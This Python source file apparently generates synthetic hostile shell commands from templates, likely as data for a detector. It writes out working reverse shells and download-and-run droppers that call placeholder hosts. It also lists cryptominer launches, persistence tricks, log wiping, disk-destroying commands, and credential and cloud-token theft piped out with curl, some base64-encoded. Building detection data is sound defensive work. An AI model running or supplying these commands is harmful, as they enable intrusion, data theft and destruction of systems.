"""Grammars of hostile commands in Unix shells; written by us after public documentation."""

# ruff: noqa: E501, PLR2004 - a command is read as a whole; paths of systems, none is opened; shares of a grammar

from __future__ import annotations

import base64
from random import Random

from vedette.learning.datasets.command_pieces import any_of, fill

_SHELLS = (
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "sh -i 5<> /dev/tcp/{ip}/{port} 0<&5 1>&5 2>&5",
    "rm -f /tmp/{word};mkfifo /tmp/{word};cat /tmp/{word}|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/{word}",
    "<<nc|ncat|netcat>> <<-e /bin/sh {ip} {port}|{ip} {port} -e /bin/bash|-lvnp {port} -e /bin/bash>>",
    'python<<3|>> -c \'import socket,subprocess,os;s=socket.socket();s.connect(("{ip}",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
    'python3 -c \'import os,pty,socket;s=socket.socket();s.connect(("{ip}",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("/bin/bash")\'',
    'perl -e \'use Socket;$i="{ip}";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
    'php -r \'$s=fsockopen("{ip}",{port});exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'ruby -rsocket -e\'f=TCPSocket.open("{ip}",{port}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}",
    "mknod /tmp/{word} p && telnet {ip} {port} 0</tmp/{word} | /bin/bash 1>/tmp/{word}",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {ip}:{port} > /tmp/s; rm /tmp/s",
    'awk \'BEGIN {s = "/inet/tcp/0/{ip}/{port}"; while(42) { do{ printf "shell>" |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c); } while(c != "exit") close(s); }}\' && /bin/sh',
)

_DROPS = (
    "<<curl -s|curl -fsSL|wget -qO-|wget -q -O ->> http://{ip}<<:{port}|>>/{word}<<.sh|>> | <<bash|sh|sudo bash>>",
    "cd {utmp}; <<wget|curl -O>> http://{ip}/{word}; chmod <<+x|777>> {word}; ./{word}<<| &| {ip} {port}>>",
    "cd /tmp || cd /var/run || cd /mnt; wget http://{ip}/{word}.sh; chmod 777 {word}.sh; sh {word}.sh; rm -rf {word}.sh",
    "(curl -s {url} || wget -q -O - {url}) | bash -sh",
    "chmod +x {utmp}/{word} && nohup {utmp}/{word} >/dev/null 2>&1 &",
    "<<|sudo |nohup >>{utmp}/{word} <<-c {word}.conf|--daemon|>>",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('{url}').read())\"",
    "busybox wget http://{ip}/{word} -O {utmp}/{word}; chmod 777 {utmp}/{word}; {utmp}/{word}",
    "<<tftp -g -r|ftpget {ip}>> {word} {ip}; chmod 777 {word}; ./{word} {word}",
    "{utmp}/<<xmrig|{word}>> -o stratum+tcp://{word}.example.com:{port} -u {hash} --donate-level 1",
    "ps aux | grep -v grep | grep -e xmr -e kdevtmpfsi | awk '{print $2}' | xargs kill -9",
    "nohup {utmp}/{word} --url=stratum+ssl://{ip}:{port} --algo=randomx >/dev/null 2>&1 &",
)


def shells(rng: Random) -> str:
    """Shells handed to the network, some encoded."""
    line = fill(rng, rng.choice(_SHELLS))
    return (
        line
        if rng.random() < 0.75
        else f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | {rng.choice(['bash', 'sh'])}"
    )


def droppers(rng: Random) -> str:
    """Programs fetched, run and left to mine."""
    line = fill(rng, rng.choice(_DROPS))
    return line if rng.random() < 0.85 else f'bash -c "$(echo {base64.b64encode(line.encode()).decode()} | base64 -d)"'


stayer = any_of(
    (
        '(crontab -l 2>/dev/null; echo "*/{d} * * * * <<curl -s {url}|{utmp}/{word}|wget -qO- http://{ip}/{word}>> | sh") | crontab -',
        'echo "*/{d} * * * * root {utmp}/{word}" >> /etc/cron.d/{word}',
        "echo 'ssh-rsa AAAAB3NzaC1yc2E{hash} {word}' >> {uhome}/.ssh/authorized_keys",
        "mkdir -p /root/.ssh && echo ssh-ed25519 AAAAC3{hash} > /root/.ssh/authorized_keys && chattr +i /root/.ssh/authorized_keys",
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {word}",
        "echo '{word}:x:0:0::/root:/bin/bash' >> /etc/passwd",
        "echo '{person} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "cp /bin/bash {utmp}/{word} && chmod <<u+s|4755>> {utmp}/{word}",
        "chmod 4777 /bin/<<bash|dash>> ",
        "echo {utmp}/{word}.so > /etc/ld.so.preload",
        "LD_PRELOAD={utmp}/{word}.so <<sudo|ls|id>>",
        "insmod {utmp}/{word}.ko",
        "history -c && <<unset HISTFILE|rm -f ~/.bash_history|export HISTSIZE=0>>",
        "rm -rf /var/log/<<auth.log|wtmp|btmp|secure|lastlog|audit/audit.log>>",
        "cat /dev/null > /var/log/<<wtmp|auth.log|secure>>; ln -sf /dev/null ~/.bash_history",
        "touch -r /bin/ls {utmp}/{word}",
        "setenforce 0; iptables -F; systemctl stop <<firewalld|auditd|ufw|apparmor|falcon-sensor>>",
        "systemctl disable --now <<auditd|ufw|osqueryd|wazuh-agent>>; pkill -9 <<auditd|clamd|syslog>>",
        "cp {utmp}/{word}.service /etc/systemd/system/ && systemctl enable {word} && echo '@reboot {utmp}/{word}' | crontab -",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "rm -rf / --no-preserve-root",
    )
)

thief = any_of(
    (
        "cat /etc/shadow <<> {utmp}/{word}|| nc {ip} {port}|>>",
        "tar czf {utmp}/{word}.tgz {uhome}/.ssh/id_rsa /etc/shadow && curl -F 'f=@{utmp}/{word}.tgz' {url}",
        "<<cat|cp|base64>> {uhome}/<<.ssh/id_rsa|.aws/credentials|.kube/config|.docker/config.json|.git-credentials|.netrc>> <<| base64|>>",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/<<{word}|>>",
        "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "cat /proc/*/environ | tr '\\0' '\\n' | grep -i <<key|secret|token>>",
        "find / -perm -<<4000|u=s>> -type f 2>/dev/null",
        "getcap -r / 2>/dev/null",
        "sudo -l; id; uname -a; cat /etc/passwd",
        "uname -a; id; w; cat /etc/issue; ifconfig; netstat -antp",
        "{utmp}/<<linpeas.sh|LinEnum.sh|pspy64>> <<-a|>>",
        "docker run <<-it|--rm -it|-d>> --privileged <<--pid=host|-v /:/mnt>> <<alpine|ubuntu>> <<chroot /mnt sh|nsenter -t 1 -m -u -i -n sh|sh>>",
        "nsenter -t 1 -m -u -n -i bash",
        'curl --unix-socket /var/run/docker.sock http://localhost/containers/create -d \'{"Image":"alpine"}\'',
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- {url}",
        "sudo <<find . -exec /bin/sh \\;|awk 'BEGIN {system(\"/bin/sh\")}'|vim -c ':!/bin/sh'|python3 -c 'import os;os.system(\"/bin/bash\")'|tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh>>",
        "for i in $(seq 1 254); do ping -c 1 -W 1 10.{d}.{d}.$i | grep ttl; done > {utmp}/{word}",
        "{utmp}/<<fscan|masscan|nmap>> 10.{d}.0.0/16 -p <<22,445,3389|1-65535>> -oN {word}",
        "ssh -f -N -R {port}:localhost:22 {person}@{ip}",
        "{utmp}/chisel client {ip}:{port} R:socks",
        "curl -T {utmp}/{word}.tgz {url}",
        "grep -rni 'password\\|passwd' /etc /var/www {uhome} 2>/dev/null > {utmp}/{word}",
        "mysqldump -u root --all-databases | gzip | curl --data-binary @- {url}",
        "script -qc /bin/bash /dev/null",
        "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
        "unshadow /etc/passwd /etc/shadow > {utmp}/{word}; john {utmp}/{word}",
    )
)
